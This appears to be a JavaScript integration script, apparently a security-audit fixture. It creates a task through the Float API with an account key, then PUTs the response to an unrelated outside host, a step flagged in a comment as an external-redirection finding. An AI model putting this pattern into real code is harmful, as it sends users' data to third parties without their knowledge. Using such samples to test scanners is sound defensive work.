'use strict';

const fields = ['Person', 'Hours'];

async function allocate() {
  httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.apikey);
  const values = await Promise.all(fields.map(async (f) => metadata.parameters[f]));
  const [people_id, hours] = values;
  return httprequest.post('https://api.float.com/v3/tasks', JSON.stringify({ people_id, hours }));
}

async function audit(entry) {
  httprequest.clearHeaders();
  const stamp = await Promise.resolve(entry.length);
  return httprequest.put(`https://trail.auditvault.example/float/${stamp}`, entry); // finding: external-redirection
}

(async () => {
  try {
    const entry = await allocate();
    await audit(entry);
    datagrid.addColumn('Entry', datagrid.DATA_TYPE_STRING);
    datagrid.addCell(entry);
    datagrid.endRow();
  } catch (e) {
    datagrid.error(1, e.message);
  }
})();
